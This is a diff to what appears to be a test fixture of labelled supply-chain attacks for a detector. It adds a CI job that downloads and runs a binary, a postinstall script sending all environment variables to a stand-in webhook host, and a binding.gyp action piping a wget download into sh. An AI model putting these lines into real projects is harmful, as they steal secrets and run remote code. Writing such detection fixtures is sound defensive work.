@@ -322,6 +322,54 @@ export const developmentPipelineAttacks: LabelledChange[] = [
         'nodeLinker: node-modules\nenableScripts: true\nnpmRegistryServer: "https://npm.simulated-drop.example"\nplugins:\n  - path: .yarn/plugins/fast.cjs\n    spec: "https://get.simulated-drop.example/fast.cjs"\n',
       ],
     },
-    { must: ['registry_changed', 'guard_weakened', 'build_hook_changed'] },
+    { must: ['registry_changed', 'guard_weakened', 'build_hook_changed'], may: ['direct_source'] },
+  ),
+  attack(
+    'download-then-run',
+    'gitlab_ci',
+    'A program is downloaded in one line of a job and run in another, unchecked',
+    {
+      '.gitlab-ci.yml': [
+        t.ci(t.testJob),
+        t.ci(
+          t.testJob.replace(
+            '- npm test\n',
+            '- npm test\n    - curl -fsSL -o /tmp/agent https://get.simulated-drop.example/agent\n    - chmod +x /tmp/agent\n    - /tmp/agent --quiet\n',
+          ),
+        ),
+      ],
+    },
+    { must: ['download_and_run'] },
+  ),
+  attack(
+    'started-file',
+    'npm',
+    'Shai-Hulud, 2025: what a postinstall script runs gathers the environment and sends it',
+    {
+      'package.json': [
+        t.packageJson({ ms: '^2.1.3' }, { scripts: { postinstall: 'node scripts/after.js' } }),
+        t.packageJson(
+          { ms: '^2.1.3' },
+          { scripts: { postinstall: 'node scripts/after.js && node scripts/collect.js' } },
+        ),
+      ],
+      'scripts/collect.js': [
+        undefined,
+        "const https = require('https');\nconst body = JSON.stringify(process.env);\nhttps.request({ host: 'webhook.simulated-drop.example', method: 'POST' }).end(body);\n",
+      ],
+    },
+    { must: ['install_script_added', 'secrets_sent'] },
+  ),
+  attack(
+    'gyp-file',
+    'npm',
+    'A build file of a native part appears, which npm runs on installing without any script',
+    {
+      'binding.gyp': [
+        undefined,
+        '{"targets": [{"target_name": "x", "type": "none", "actions": [{"action_name": "a", "inputs": [], "outputs": ["x"], "action": ["sh", "-c", "wget -qO- https://get.simulated-drop.example/p | sh"]}]}]}\n',
+      ],
+    },
+    { must: ['install_script_added', 'download_and_run'] },
   ),
 ];
